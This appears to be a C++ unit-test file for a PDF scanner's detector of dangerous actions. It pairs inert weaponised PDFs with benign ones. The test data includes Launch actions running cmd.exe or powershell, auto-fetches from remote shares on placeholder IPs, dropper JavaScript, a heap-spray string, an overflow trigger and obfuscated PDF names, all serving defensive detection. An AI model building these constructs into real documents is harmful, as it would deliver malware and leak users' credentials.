// What PDFs would do, weaponised in form and inert in content, each beside an honest one of the same make.
#include "scanner/active/pdf_actions.h"

#include <gtest/gtest.h>

#include "scanner/active/pdf.h"
#include "scanner/active/pdf_actions_testing.h"
#include "scanner/active/pdf_names.h"
#include "tests/fixtures/pdf_writer.h"
#include "tests/fixtures/scratch.h"

namespace sekisho::scanner::active {
namespace {

const std::string text_page = "/Contents 4 0 R";
std::string long_text() {
    std::string out = "BT /F1 10 Tf ";
    for (int i = 0; i < 20; ++i)
        out += fmt::format("(Line {} of an ordinary letter of ours) Tj ", i);
    return pdf_stream("", out + "ET");
}

struct Case {
    std::string name;
    std::string bytes;
    std::string ids;
};
class PdfActs : public testing::TestWithParam<Case> {};
TEST_P(PdfActs, IsTold) {
    ReadPdf read(GetParam().bytes);
    EXPECT_EQ(read.ids(), GetParam().ids);
    EXPECT_NE(pdf_format.recognise(base::as_bytes(GetParam().bytes), "a.pdf"), no_match);
    EXPECT_TRUE(read.extraction.budget().reached().empty());
}

INSTANTIATE_TEST_SUITE_P(
    Weaponised, PdfActs,
    testing::Values(
        Case{"launch_at_open",
             pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c echo INERT SEKISHO TEST) >> >>"),
             "pdf.launch.command"},
        Case{"launch_on_a_click", pdf("", annotation("/A << /S /Launch /F (..\\\\files\\\\setup.vbs) >>")),
             "pdf.launch.command"},
        Case{"launch_from_webdav",
             pdf("/OpenAction << /S /Launch /F (\\\\\\\\192.0.2.1@80\\\\DavWWWRoot\\\\a.pdf) >>"),
             "pdf.launch.command"},
        Case{"launch_behind_another_action",
             pdf("",
                 annotation("/A << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /Win << /F (powershell.exe) "
                            ">> >>] >>")),
             "pdf.launch.command"},
        Case{"launch_of_a_page_that_is_shown", pdf("", "/AA << /O << /S /Launch /F (mshta.exe) >> >>"),
             "pdf.launch.command"},
        Case{"launch_of_an_outline_entry",
             pdf("/Outlines 4 0 R", "",
                 {"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
                  "<< /Title (x) /Parent 4 0 R /A << /S /Launch /F (a.exe) >> >>"}),
             "pdf.launch.command"},
        Case{"bad_pdf", pdf("", "/AA << /O << /S /GoToE /F (\\\\\\\\192.0.2.7\\\\a\\\\b) /D [0 /Fit] >> >>"),
             "pdf.remote.auto"},
        Case{"share_in_a_specification",
             pdf("/OpenAction << /S /GoToR /F << /Type /Filespec /UF (\\\\\\\\files.example.com\\\\a.pdf) >> "
                 ">>"),
             "pdf.remote.auto"},
        Case{"form_sent_to_a_share",
             pdf("/OpenAction << /S /SubmitForm /F << /FS /URL /F (\\\\\\\\192.0.2.7\\\\a) >> >>"),
             "pdf.remote.auto"},
        Case{"share_in_a_script",
             pdf("/OpenAction " +
                 script("app.openDoc\\(\"\\\\\\\\\\\\\\\\files.example.com\\\\\\\\a.pdf\"\\);")),
             "pdf.javascript pdf.javascript.auto pdf.remote.auto"},
        Case{"address_at_open", pdf("/OpenAction << /S /URI /URI (https://example.com/a) >>"),
             "pdf.open-link"},
        Case{"address_by_script",
             pdf("/OpenAction " + script("app.launchURL\\(\"https://example.com/\"\\);")),
             "pdf.javascript pdf.javascript.auto pdf.open-link"},
        Case{
            "drops_a_document_at_open",
            pdf("/OpenAction " + script(button_export) + attached("a.docm"), "", file_objects("a.docm", "x")),
            "pdf.attachment pdf.drop pdf.javascript pdf.javascript.auto pdf.javascript.open-file"},
        Case{"drops_a_document_by_joined_words",
             pdf("/OpenAction " + script("this[\"export\"+\"DataObject\"]\\({cName:\"a\",nLaunch:2}\\);") +
                     attached("a.docm"),
                 "", file_objects("a.docm", "x")),
             "pdf.attachment pdf.drop pdf.javascript pdf.javascript.auto pdf.javascript.open-file"},
        Case{"drops_a_script_on_a_click",
             pdf(attached("a.js"), annotation("/A " + script(button_export)), file_objects("a.js", "x")),
             "pdf.attachment pdf.attachment.active pdf.drop pdf.javascript pdf.javascript.open-file"},
        Case{"script_of_the_names",
             pdf("/Names << /JavaScript << /Kids [<< /Names [(a) 4 0 R] >>] >> >>", "",
                 {"<< /S /JavaScript /JS 5 0 R >>", pdf_stream("", "var a = 1;")}),
             "pdf.javascript pdf.javascript.auto"},
        Case{"script_in_two_filters",
             pdf("/OpenAction << /S /JavaScript /JS 4 0 R >>", "",
                 {pdf_stream(
                     "/Filter [/ASCIIHexDecode /ASCIIHexDecode]",
                     "3734363836393733326536353738373036663732373434343631373436313466363236613635363337"
                     "34323832333263>")}),
             "pdf.javascript pdf.javascript.auto"},
        Case{"script_in_utf16",
             pdf("/OpenAction << /S /JavaScript /JS "
                 "<FEFF0061002E00670065007400550052004C0028002200680074007400700"
                 "03A002F002F006100220029> >>"),
             "pdf.javascript pdf.javascript.auto pdf.open-link"},
        Case{"program_by_an_address",
             pdf("", annotation("/A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>")),
             "pdf.launch.command"},
        Case{"old_program_by_an_address",
             pdf("", annotation("/A << /S /URI /URI (file:///C:/Users/a/setup.com) >>")),
             "pdf.launch.command"},
        Case{"program_that_calls_itself_a_document",
             pdf("", annotation("/A << /S /Launch /F (invoice.pdf.com) >>")), "pdf.launch.command"},
        Case{"shell_of_old", pdf("", annotation("/A << /S /Launch /F (C:\\\\Windows\\\\cmd.com) >>")),
             "pdf.launch.command"},
        Case{
            "script_met_elsewhere_first",
            pdf("/AAA 4 0 R", "/AA << /O 4 0 R >>", {script("app.launchURL\\(\"https://example.com/\"\\);")}),
            "pdf.javascript pdf.javascript.auto pdf.open-link"},
        Case{"stream_of_a_script_met_elsewhere_first",
             pdf("/AAA << /JS 4 0 R >>", "/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
                 {pdf_stream("", "app.launchURL(\"https://example.com/\");")}),
             "pdf.javascript pdf.javascript.auto pdf.open-link"},
        Case{"script_that_is_attached_too",
             pdf("/AAA << /F (a.txt) /EF << /F 4 0 R >> >>", "/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
                 {pdf_stream("", "app.launchURL(\"https://example.com/\");")}),
             "pdf.attachment pdf.javascript pdf.javascript.auto pdf.open-link"},
        Case{"style_sheet_of_a_form",
             pdf("/AcroForm << /XFA 4 0 R >>", "",
                 {pdf_stream(
                     "", "<?xml-stylesheet href=\"\\\\192.0.2.7\\a\\b.xslt\" type=\"text/xsl\" ?><xdp/>")}),
             "pdf.remote.auto"},
        Case{"launch_when_it_is_closed", pdf("/AA << /WC << /S /Launch /F (cmd.exe) >> >>"),
             "pdf.launch.command"},
        Case{"filling_of_memory", pdf("/OpenAction " + script("var s = unescape\\(\"%u0c0c%u0c0c\"\\);")),
             "pdf.javascript pdf.javascript.auto pdf.javascript.exploit"},
        Case{"width_of_45000", pdf("/OpenAction " + script("util.printf\\(\"%45000f\", 1\\);")),
             "pdf.javascript pdf.javascript.auto pdf.javascript.exploit"},
        Case{"names_in_disguise", pdf("/Op#65nAction << /S /J#61vaScript /JS (a=1) >>"),
             "pdf.escaped-name pdf.javascript pdf.javascript.auto"},
        Case{"attached_program", pdf(attached("a.bin"), "", file_objects("a.bin", "#@~^AAAA==")),
             "pdf.attachment pdf.attachment.active"},
        Case{"attachment_of_an_annotation",
             pdf("", "/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]", file_objects("a.hta", "x")),
             "pdf.attachment pdf.attachment.active"},
        Case{"flash",
             pdf("",
                 "/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 4 0 "
                 "R] >> >> >>]",
                 file_objects("a.swf", "CWS\tINERT")),
             "pdf.attachment pdf.rich-media"},
        Case{"one_link_over_a_picture",
             pdf("",
                 "/Annots [<< /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI "
                 "(https://example.com/a.zip) >> >>] "
                 "/Resources << /XObject << /I 4 0 R >> >>",
                 {pdf_stream("/Subtype /Image /Width 1 /Height 1", "x")}),
             "pdf.lure"},
        Case{"behind_other_bytes", "GARBAGE\r\n" + pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
             "pdf.launch.command"}),
    [](const auto& info) { return info.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Honest, PdfActs,
    testing::Values(
        Case{
            "form_with_formats",
            pdf("/AcroForm << /Fields [4 0 R] >>", "",
                {"<< /FT /Tx /T (Total) /AA << /F " + script("AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);") +
                 " /K " + script("AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);") + " /C " +
                 script("AFSimple_Calculate\\(\"SUM\", new Array \\(\"a\", \"b\"\\)\\);") + " >> >>"}),
            "pdf.javascript"},
        Case{"form_that_is_sent",
             pdf("/AcroForm << /Fields [4 0 R] >>", "",
                 {"<< /FT /Btn /T (Send) /A << /S /SubmitForm /F << /FS /URL /F (https://example.com/form) "
                  ">> >> >>"}),
             ""},
        Case{"label_that_prints_itself", pdf("/OpenAction " + script("this.print\\({bUI: false}\\);")),
             "pdf.javascript pdf.javascript.auto"},
        Case{"function_for_buttons",
             pdf(attached("a.pdf"), annotation("/A " + script("openIt\\(\\);")),
                 file_objects("a.pdf", "%PDF-1.4")),
             "pdf.attachment pdf.javascript"},
        Case{"functions_of_the_document",
             pdf("/Names << /JavaScript << /Names [(a) " +
                 script("function open\\(\\) { this.exportDataObject\\({cName: \"a\", nLaunch: 2}\\); } "
                        "function web\\(\\) { "
                        "app.launchURL\\(\"https://example.com/\"\\); } var home = "
                        "\"\\\\\\\\\\\\\\\\fileserver\\\\\\\\forms\";") +
                 "] >> >>"),
             "pdf.javascript pdf.javascript.auto pdf.javascript.open-file"},
        Case{"portfolio", pdf(attached("a.xlsx"), "", file_objects("a.xlsx", "PK\3\4")), "pdf.attachment"},
        Case{"invoice_with_its_data",
             pdf(attached("factur-x.xml"), "", file_objects("factur-x.xml", "<?xml?><a/>")),
             "pdf.attachment"},
        Case{"button_that_opens_an_attached_pdf",
             pdf(attached("a.pdf"), annotation("/A " + script(button_export)),
                 file_objects("a.pdf", "%PDF-1.4")),
             "pdf.attachment pdf.javascript pdf.javascript.open-file"},
        Case{"button_that_saves_an_attached_book",
             pdf(attached("a.xls"),
                 annotation("/A " + script("this.exportDataObject\\({cName: \"a\", nLaunch: 0}\\);")),
                 file_objects("a.xls", "x")),
             "pdf.attachment pdf.javascript"},
        Case{"letter_with_a_link",
             pdf("", text_page + annotation("/A << /S /URI /URI (https://www.example.com/) >>"),
                 {long_text()}),
             ""},
        Case{"first_page_to_show", pdf("/OpenAction [3 0 R /XYZ null null 0]", text_page, {long_text()}), ""},
        Case{"first_page_by_an_action", pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), ""},
        Case{"drawing_on_a_share_of_the_house",
             pdf("", annotation("/A << /S /GoToR /F (\\\\\\\\fileserver\\\\drawings\\\\a.pdf) >>")), ""},
        Case{"document_of_the_sender_s_machine",
             pdf("", annotation("/A << /S /URI /URI (file:///C:/Users/a/plan.docx) >>")), ""},
        Case{"address_that_became_a_file",
             pdf("", annotation("/A << /S /URI /URI (file:///C:/Users/x/Documents/www.example.com) >>")), ""},
        Case{"host_that_became_a_file",
             pdf("", annotation("/A << /S /URI /URI (file:///C:/Users/x/shop.example.com) >>")), ""},
        Case{"address_to_be_launched", pdf("", annotation("/A << /S /Launch /F (www.example.com) >>")),
             "pdf.launch"},
        Case{"address_without_a_scheme", pdf("", annotation("/A << /S /URI /URI (www.example.com) >>")), ""},
        Case{"style_sheet_beside_it",
             pdf("/AcroForm << /XFA 4 0 R >>", "",
                 {pdf_stream("", "<?xml-stylesheet href=\"a.xslt\"?><xdp/>")}),
             ""},
        Case{"manual_beside_it", pdf("", annotation("/A << /S /Launch /F (manual.doc) >>")), "pdf.launch"},
        Case{"name_with_a_blank",
             pdf("/Names << /X << /A#20B 1 >> >> /URI << /Base (https://example.com/) >>"), ""}),
    [](const auto& info) { return info.param.name; });

TEST(PdfActions, HonestOnesStayBelowSuspicious) {
    for (const std::string& bytes : {pdf(attached("a.pdf"), annotation("/A " + script(button_export)),
                                         file_objects("a.pdf", "%PDF-1.4")),
                                     pdf("/OpenAction " + script("this.print\\({bUI: false}\\);"))})
        EXPECT_LT(ReadPdf(bytes).score(), 4.0);
    EXPECT_GE(ReadPdf(pdf("/OpenAction " + script(button_export) + attached("a.docm"), "",
                          file_objects("a.docm", "x")))
                  .score(),
              10.0);
}

TEST(PdfActions, FixturesAreWhatTheyShouldBe) {
    EXPECT_EQ(ReadPdf(fixtures::inert_pdf_launcher()).ids(), "pdf.launch.command");
    EXPECT_EQ(ReadPdf(fixtures::inert_pdf_share()).ids(), "pdf.remote.auto");
    EXPECT_GE(ReadPdf(fixtures::inert_pdf_dropper()).score(), 10.0);
    EXPECT_EQ(ReadPdf(fixtures::benign_pdf_form()).ids(), "pdf.javascript pdf.javascript.auto");
    EXPECT_EQ(ReadPdf(fixtures::benign_pdf_portfolio()).ids(),
              "pdf.attachment pdf.javascript pdf.javascript.open-file");
}

TEST(PdfActions, ScriptsFilesAndLinksBecomeParts) {
    ReadPdf read(
        pdf("/OpenAction " + script("first\\(\\);") + attached("notes.txt"),
            annotation("/A << /S /URI /URI (https://example.com/1) /Next " + script("second\\(\\);") + " >>"),
            file_objects("notes.txt", "the notes")));
    EXPECT_EQ(read.child("javascript"), "first();\nsecond();\n");
    EXPECT_EQ(read.child("links"), "https://example.com/1\n");
    EXPECT_EQ(read.child("notes.txt"), "the notes");
    EXPECT_EQ(ReadPdf(pdf("", annotation("/A << /S /URI /URI (www.example.com/a) >>"))).child("links"),
              "http://www.example.com/a\n");
    for (const TestChild& child : read.extraction.children)
        EXPECT_EQ(child.spec.opened_by, child.spec.name == "notes.txt" ? "pdf-file" : "pdf")
            << child.spec.label;
    ReadPdf launch(pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c echo INERT) >> >>"));
    EXPECT_EQ(launch.child("folded:launch"), "cmd.exe /c echo INERT\n");
}

TEST(PdfActions, FormsOfXfaAreRead) {
    ReadPdf read(pdf(
        "/AcroForm << /XFA [(template) 4 0 R (datasets) 5 0 R] >>", "",
        {pdf_stream("", "<template><script contentType=\"application/x-javascript\">app.alert(1);</script>"),
         pdf_stream("", "</template>")}));
    EXPECT_EQ(read.child("xfa"),
              "<template><script contentType=\"application/x-javascript\">app.alert(1);</script></template>");
    EXPECT_EQ(read.child("javascript"), "app.alert(1);\n");
    EXPECT_EQ(read.ids(), "pdf.javascript");
}

// As the program qpdf writes them: packed, in object streams, and with a cross-reference stream.
TEST(PdfActions, ObjectStreamsHideNothing) {
    fixtures::Scratch scratch;
    scratch.write("plain.pdf",
                  pdf("/OpenAction " + script(button_export) + attached("a.js"),
                      annotation("/A << /S /URI /URI (https://example.com/) >>"), file_objects("a.js", "x")));
    ASSERT_EQ(scratch.run("qpdf --object-streams=generate --compress-streams=y plain.pdf packed.pdf"), "");
    const std::string packed = scratch.read("packed.pdf");
    EXPECT_EQ(packed.find("/OpenAction"), packed.npos);
    EXPECT_NE(pdf_format.recognise(base::as_bytes(packed), "a.pdf"), no_match);
    ReadPdf read(packed);
    EXPECT_EQ(read.ids(), ReadPdf(scratch.read("plain.pdf")).ids());
    EXPECT_EQ(read.child("a.js"), "x");
}

// What qpdf, another program, attaches and lists is what comes out.
TEST(PdfActions, AttachmentsOfAnotherProgramComeOut) {
    fixtures::Scratch scratch;
    scratch.write("a.txt", "of the first");
    scratch.write("b.txt", "of the second");
    ASSERT_EQ(
        scratch.run("qpdf --empty --add-attachment a.txt -- --add-attachment b.txt --filename=見積.txt -- "
                    "out.pdf"),
        "");
    ReadPdf read(scratch.read("out.pdf"));
    EXPECT_EQ(read.child("a.txt"), "of the first");
    EXPECT_EQ(read.child("見積.txt"), "of the second");
}

TEST(PdfActions, FilesThatStandInItAsTheyAreAreNotFoundTwice) {
    ReadPdf read(pdf(attached("a.txt"), "", file_objects("a.txt", "the notes")));
    ASSERT_EQ(read.extraction.covered.size(), 1U);
    EXPECT_EQ(base::as_text(read.extraction.covered[0]), "the notes");
}

// What is encrypted and opens without a password acts as any other.
TEST(PdfActions, DecryptedCopiesAreRead) {
    OpenedPdf opened(locked_with("", "owner", "256"));
    ASSERT_NE(opened.decrypted(), nullptr);
    ReadPdf read(std::string(opened.decrypted()->text()));
    EXPECT_EQ(read.ids(),
              "pdf.attachment pdf.attachment.active pdf.javascript pdf.javascript.auto pdf.open-link");
    EXPECT_EQ(read.child("run.bat"), sample_attachment());
}

// In August 2023 a mail with a web archive of Word hung behind the header of a PDF.
TEST(PdfActions, MailsWithinComeOut) {
    const std::string mail =
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; "
        "boundary=\"x\"\r\n\r\n--x\r\n\r\nINERT\r\n--x--\r\n";
    const std::string bytes = pdf("") + "\r\n" + mail;
    ReadPdf read(bytes);
    EXPECT_EQ(read.ids(), "type.polyglot");
    ASSERT_EQ(read.extraction.children.size(), 1U);
    EXPECT_EQ(read.extraction.children[0].text(), mail);
    EXPECT_NE(pdf_format.recognise(base::as_bytes(bytes), "a.doc"), no_match);
    // A text about mail is none.
    EXPECT_EQ(ReadPdf(pdf("/X (\nMIME-Version: 1.0\n)")).ids(), "");
}

// A mail that is attached as it stands hides nothing, and is a part already; one behind it still does.
TEST(PdfActions, AttachedMailsAreNoPolyglots) {
    const std::string mail =
        "Subject: INERT\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
        "boundary=\"x\"\r\n\r\n--x\r\n\r\nINERT\r\n--x--\r\n";
    const std::string bytes = pdf(attached("a.eml"), "", file_objects("a.eml", mail));
    ReadPdf read(bytes);
    EXPECT_EQ(read.ids(), "pdf.attachment");
    ASSERT_EQ(read.extraction.children.size(), 1U);
    EXPECT_EQ(read.child("a.eml"), mail);
    EXPECT_EQ(ReadPdf(bytes + "\r\n" + mail).ids(), "pdf.attachment type.polyglot");
}

TEST(PdfActions, WithoutATrailerTheCatalogueIsFound) {
    std::string bytes = pdf("/OpenAction << /S /Launch /F (cmd.exe) >>");
    bytes.resize(bytes.find("xref\n"));
    EXPECT_EQ(ReadPdf(bytes).ids(), "pdf.launch.command pdf.repaired");
    bytes.resize(bytes.find("1 0 obj"));
    EXPECT_EQ(ReadPdf(bytes).ids(), "document.damaged");
}

// Where a repair was needed readers differ about what belongs to the document.
TEST(PdfActions, DamagedOnesAreReadAsAWhole) {
    std::string bytes = pdf("", "", {"<< /S /Launch /F (cmd.exe) >>"});
    EXPECT_EQ(ReadPdf(bytes).ids(), "");
    bytes.replace(bytes.find(" 00000 n") - 10, 10, "0000000900");  // where the first object is said to be
    EXPECT_EQ(ReadPdf(bytes).ids(), "pdf.launch.command pdf.repaired");
}

TEST(PdfActions, WhatScannersWriteCostsNoParser) {
    const std::string page =
        "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>";
    const std::string scan =
        fixtures::pdf_file({"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                            page, pdf_stream("", "/I Do"), pdf_stream("/Subtype /Image", "/EFx /JSq /UF1")});
    EXPECT_EQ(pdf_format.recognise(base::as_bytes(scan), "a.pdf"), no_match);
    EXPECT_NE(plain_pdf_format.recognise(base::as_bytes(scan), "a.pdf"), no_match);
    EXPECT_FALSE(plain_pdf_format.risky);
    EXPECT_TRUE(pdf_format.risky);
}

TEST(PdfActions, DisguisedNamesAreSeen) {
    const auto seen = [](std::string_view text) {
        return std::string(find_disguised_name(base::as_bytes(text)));
    };
    EXPECT_EQ(seen("<< /J#61vaScript 1 >>"), "/J#61vaScript");
    EXPECT_EQ(seen("/#4C#61#75#6E#63#68"), "/#4C#61#75#6E#63#68");
    EXPECT_EQ(seen("/A#20B /Lime#20Green /#E8#AB#8B"), "");  // what programs of honest people write
    EXPECT_EQ(seen("/Font#41"), "");
    EXPECT_EQ(seen("/JS #61"), "");
    EXPECT_EQ(seen("#61"), "");
    EXPECT_EQ(seen("/J#6"), "");
}

}  // namespace
}  // namespace sekisho::scanner::active
